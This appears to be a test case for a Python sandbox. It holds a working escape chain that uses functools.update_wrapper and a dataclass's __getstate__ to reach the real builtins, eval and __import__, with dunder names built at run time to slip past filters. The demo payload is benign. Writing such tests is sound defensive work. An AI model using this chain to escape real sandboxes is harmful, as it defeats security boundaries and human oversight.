# technique: functools.update_wrapper(holder, exit.__init__, assigned=('__globals__',), updated=()) reads the blocked attribute and copies it onto an object that takes any attribute; holder.__getstate__() (3.11+) hands its __dict__ back -> module globals -> real builtins
# configs: default, common
# The attribute name is built at run time. The holder is an instance of a class made by
# dataclasses.make_dataclass whose empty __slotnames__ spares __getstate__ an import of copyreg.
# With nothing allowed the imports are refused.
import dataclasses
import functools
u = '_' * 2
name = u + 'globals' + u
Holder = dataclasses.make_dataclass('Holder', [], namespace={u + 'slotnames' + u: []})
holder = Holder()
functools.update_wrapper(holder, exit.__init__, assigned=(name,), updated=())
g = holder.__getstate__()[name]
real_builtins = g[u + 'builtins' + u]
real_import = real_builtins[u + 'import' + u]
return [{'json': {'escaped': [real_builtins['eval']('6 * 7'), real_import('os').getpid()]}}]
